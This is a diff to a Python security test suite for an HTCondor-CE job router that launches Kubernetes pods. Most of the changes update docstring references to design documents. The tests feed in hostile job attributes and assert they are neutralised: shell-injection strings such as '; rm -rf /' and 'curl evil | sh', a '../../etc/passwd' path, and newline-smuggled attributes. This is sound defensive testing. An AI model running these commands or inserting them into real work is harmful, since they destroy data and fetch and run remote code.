@@ -2,8 +2,8 @@
 another job's pod, or a setting the site did not choose (issue 9 "Injection").
 
 Every job attribute is attacker-controlled text: the factory writes the job ad and Condor-C
-carries it to the CE as is (htcondor-ce.md §6). The rules come from DESIGN decisions 1, 6 and 7,
-jobrouter-protocol.md §2.2 (translate output replaces the ad; sPrintAd writes newlines raw) and
+carries it to the CE as is (htcondor-ce.md §6). The rules come from docs/design.md Decisions 1, 6 and 7,
+docs/hook-protocol.md §2.2 (translate output replaces the ad; sPrintAd writes newlines raw) and
 the Kubernetes `$(VAR)` expansion rule for command/args/env.
 """
 
@@ -59,7 +59,7 @@ def pilot_container(pod: dict) -> dict:
 
 @pytest.mark.parametrize("cmd", ["; rm -rf /", "$(reboot)", "`id`", "a && curl evil | sh", "x\ny"])
 def test_cmd_never_reaches_a_shell(cmd):
-    """DESIGN decision 7 / builder: the executable runs in exec form from the Secret; a hostile
+    """docs/design.md Decision 7 / builder: the executable runs in exec form from the Secret; a hostile
     Cmd is at most a strange file name inside the spool, never a shell command line."""
     try:
         built = build_manifests(routed(Cmd=cmd, Arguments="; rm -rf / $(HOME) `id`"), SETTINGS)
@@ -131,7 +131,7 @@ def test_symlink_in_the_spool_is_not_followed_by_the_agent(tmp_path):
 
 
 def test_finalize_never_writes_through_a_symlink_or_outside_the_spool(tmp_path):
-    """finalize (runs as the job owner, §2.4) opens each component with O_NOFOLLOW below the spool
+    """finalize (runs as the job owner, hook-protocol.md §2.4) opens each component with O_NOFOLLOW below the spool
     the agent reports; `Out = ../../etc/passwd` and a planted symlink both fail."""
     root = tmp_path / "spool"
     job = root / "5" / "0" / "cluster5.proc0.subproc0"
@@ -154,7 +154,7 @@ def test_finalize_never_writes_through_a_symlink_or_outside_the_spool(tmp_path):
 
 @given(st.text(min_size=1, max_size=80), st.text(min_size=1, max_size=80))
 def test_distinct_global_job_ids_never_share_a_pod_name(a, b):
-    """DESIGN decision 5: the pod name hashes the whole GlobalJobId, so a crafted id that copies
+    """docs/design.md Decision 5: the pod name hashes the whole GlobalJobId, so a crafted id that copies
     another job's readable part (`ce#1.0#...`) still gets its own pod."""
     if a != b:
         assert pod_name(a, 0) != pod_name(b, 0)
@@ -194,7 +194,7 @@ def test_label_sanitising_keeps_different_inputs_apart(a, b):
 # -- route macros and the routing pipeline ------------------------------------------------------
 
 def test_route_macro_with_job_text_cannot_add_statements():
-    """`$(MY.x)` is expanded per line when the line runs (§4): a newline or `SET` in job text
+    """`$(MY.x)` is expanded per line when the line runs (hook-protocol.md §4): a newline or `SET` in job text
     stays inside the one value, and never becomes a new transform statement."""
     t = Transform.parse("R", 'SET Note "from $(MY.Frontend)"\nSET K8sNamespace "pilots"\n')
     ad = classad2.ClassAd()
@@ -254,8 +254,8 @@ HOSTILE_SETTINGS = {
 
 
 def test_factory_cannot_choose_kubernetes_settings_by_submitting_k8s_attributes():
-    """DESIGN decision 1: Kubernetes settings are *route* settings. The routed ad starts as the
-    factory's job ad (§2.2), so a `K8s*` attribute the factory submits would otherwise survive
+    """docs/design.md Decision 1: Kubernetes settings are *route* settings. The routed ad starts as the
+    factory's job ad (hook-protocol.md §2.2), so a `K8s*` attribute the factory submits would otherwise survive
     wherever the route does not SET it: namespace kube-system, a cluster-admin token, the node's
     root filesystem. The translate hook drops every incoming K8s* attribute."""
     pod = _route_through_shipped_config(_source_job(**HOSTILE_SETTINGS))
@@ -269,7 +269,7 @@ def test_factory_cannot_choose_kubernetes_settings_by_submitting_k8s_attributes(
 
 
 def test_newline_in_a_job_string_cannot_smuggle_an_attribute_through_translate():
-    """sPrintAd writes a string's raw newline as is (§2.2), so `Foo = "x<NL>Owner = "root""`
+    """sPrintAd writes a string's raw newline as is (hook-protocol.md §2.2), so `Foo = "x<NL>Owner = "root""`
     arrives as two lines; the second must not become an attribute of the routed ad (it could
     replace Owner, a VO name the transforms key on, or a K8s* setting)."""
     job = _source_job(Zzz='x\nOwner = "root"', Aaa='y\nx509UserProxyVOName = "cms"\nK8sNamespace = "kube-system"',
@@ -279,12 +279,12 @@ def test_newline_in_a_job_string_cannot_smuggle_an_attribute_through_translate()
     assert ad.eval("Owner") == "osg01"
     assert "x509UserProxyVOName" not in ad
     assert "K8sNamespace" not in ad
-    assert "Zzz" not in ad and "Aaa" not in ad       # the broken attributes are dropped (§2.2 note)
+    assert "Zzz" not in ad and "Aaa" not in ad       # the broken attributes are dropped (hook-protocol.md §2.2 note)
 
 
 def test_update_output_value_with_newline_is_one_safe_line():
     """Agent → update hook: any text (pod messages are cluster-controlled) is rendered as one
-    old-syntax string literal the router reads back unchanged, quotes escaped (§2.1, §8)."""
+    old-syntax string literal the router reads back unchanged, quotes escaped (hook-protocol.md §2.1, §8)."""
     for text in ['a\nJobStatus = 4', 'x"\nOwner = "root', "back\\slash\\", "\x00\r\u2028", "é" * 5000]:
         line = f"HoldReason = {quote(text)}\n"
         assert line.count("\n") == 1
